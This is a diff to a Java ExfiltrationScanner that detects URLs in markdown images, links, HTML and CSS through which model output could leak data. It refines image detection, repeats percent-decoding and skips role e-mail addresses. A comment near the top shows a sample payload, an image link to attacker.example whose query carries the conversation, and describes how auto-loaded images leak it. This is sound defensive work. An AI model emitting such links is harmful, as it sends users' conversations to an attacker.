@@ -23,7 +23,8 @@ import java.util.regex.Pattern;
  * auto-loaded resources without a click, so {@code ![x](https://attacker.example/p.png?q=<the conversation>)}
  * sends data to the attacker the moment the answer is shown; links leak on click or when a client unfurls them.
  *
- * <p>It extracts URLs from markdown images {@code ![alt](url)} (spaces allowed between the parts), reference-style
+ * <p>It extracts URLs from markdown images {@code ![alt](url)} (spaces allowed before the {@code (}, and after a {@code !}
+ * that does not end a word), reference-style
  * definitions {@code [id]: url} (an image when some {@code ![..][id]} uses them), markdown links, HTML tags
  * ({@code <img src>}, {@code <iframe>}, {@code <script src>}, {@code <a href>}, {@code srcset}, {@code poster} and
  * the like; character references such as {@code &#104;ttps&colon;} decoded), CSS {@code url(...)} and bare
@@ -84,7 +85,7 @@ public final class ExfiltrationScanner implements Scanner {
     private static final Pattern REF_DEF =
             Pattern.compile("(?m)^[ \\t]{0,3}\\[([^\\]\\n]{1,200})\\]:[ \\t]*<?([^\\s>]+)");
     private static final Pattern REF_IMAGE_USE =
-            Pattern.compile("!\\s*\\[([^\\]\\n]{0,200})\\]\\s*\\[([^\\]\\n]{0,200})\\]");
+            Pattern.compile("(?:(?<![^\\s])![ \\t]{1,8}|!)\\[([^\\]\\n]{0,200})\\][ \\t]{0,8}\\[([^\\]\\n]{0,200})\\]");
     private static final Pattern BARE =
             Pattern.compile("(?i)//[a-z0-9\\-._~%:@]{1,253}\\.[a-z0-9\\-]{2,63}[^\\s<>\"'`]*");
     private static final Pattern SCHEME = Pattern.compile("[a-z][a-z0-9+.-]{0,20}");
@@ -264,11 +265,7 @@ public final class ExfiltrationScanner implements Scanner {
             } else if (c == ']' && lastOpen >= 0 && i - lastOpen <= MAX_ALT) {
                 int j = skipSpaces(s, i + 1, 8);
                 if (j < n && s.charAt(j) == '(') {
-                    int k = lastOpen - 1;
-                    while (k >= 0 && k >= lastOpen - 8 && Character.isWhitespace(s.charAt(k))) {
-                        k--;
-                    }
-                    boolean image = k >= 0 && s.charAt(k) == '!';
+                    boolean image = imageBang(s, lastOpen);
                     int u = skipSpaces(s, j + 1, 8);
                     if (u < n && s.charAt(u) == '<') {
                         u++;
@@ -284,6 +281,23 @@ public final class ExfiltrationScanner implements Scanner {
             }
             i++;
         }
+    }
+
+    /**
+     * Whether the {@code [} at {@code open} begins an image: a {@code !} right before it, as CommonMark has it, or
+     * one a few spaces or tabs before it that does not end a word ({@code ! [x](u)} on a line of its own, which some
+     * lenient renderers still take for an image). A {@code !} that ends a sentence ({@code Sure! [Open](u)}) or one on
+     * an earlier line does not make the link an image.
+     */
+    private static boolean imageBang(String s, int open) {
+        int k = open - 1;
+        while (k >= 0 && k >= open - 8 && (s.charAt(k) == ' ' || s.charAt(k) == '\t')) {
+            k--;
+        }
+        if (k < 0 || s.charAt(k) != '!') {
+            return false;
+        }
+        return k == open - 1 || k == 0 || Character.isWhitespace(s.charAt(k - 1));
     }
 
     /** Whether "url" followed by "(" (any case, spaces between) may occur: a cheap filter before the regex. */
@@ -699,7 +713,7 @@ public final class ExfiltrationScanner implements Scanner {
         } else if (words == 3) {
             text = Math.max(text, 0.6);
         }
-        if (EMAIL.matcher(v).find()) {
+        if (personalEmail(v)) {
             text = Math.max(text, 0.8);
         }
         Matcher b = BASE64.matcher(v);
@@ -767,7 +781,7 @@ public final class ExfiltrationScanner implements Scanner {
         } else if (words == 3) {
             text = 0.6;
         }
-        if (EMAIL.matcher(v).find()) {
+        if (personalEmail(v)) {
             text = Math.max(text, 0.8);
         }
         Matcher b = BASE64.matcher(v);
@@ -886,8 +900,34 @@ public final class ExfiltrationScanner implements Scanner {
 
     /** Percent-decodes, and once more when the result still holds escapes ({@code %2520}: double encoding). */
     static String decodeTwice(String s, boolean plus) {
-        String once = percentDecode(s, plus);
-        return once.indexOf('%') >= 0 ? percentDecode(once, false) : once;
+        String out = percentDecode(s, plus);
+        // again while escapes remain and decoding changes something: %252540 is three rounds of encoding
+        for (int round = 0; round < 4 && out.indexOf('%') >= 0; round++) {
+            String next = percentDecode(out, false);
+            if (next.equals(out)) {
+                break;
+            }
+            out = next;
+        }
+        return out;
+    }
+
+    /** Local parts of addresses that name a role, not a person: a contact form's {@code ?email=support@...}. */
+    private static final Pattern ROLE_ADDRESS = Pattern.compile(
+            "(?i)(?:support|sales|info|contact|hello|help|helpdesk|billing|noreply|no-reply|do-not-reply|donotreply|admin"
+                    + "|team|press|media|careers|jobs|privacy|security|abuse|webmaster|postmaster|office|service"
+                    + "|customerservice|kundenservice|marketing|partners|feedback|enquiries|inquiries)@");
+
+    /** Whether {@code v} holds an e-mail address that is not a role address ({@link #ROLE_ADDRESS}). */
+    static boolean personalEmail(String v) {
+        Matcher m = EMAIL.matcher(v);
+        while (m.find()) {
+            Matcher role = ROLE_ADDRESS.matcher(v).region(m.start(), m.end());
+            if (!role.lookingAt()) {
+                return true;
+            }
+        }
+        return false;
     }
 
     /** Percent-decodes as UTF-8 (invalid escapes stay as they are); {@code plus} turns {@code +} into a space. */
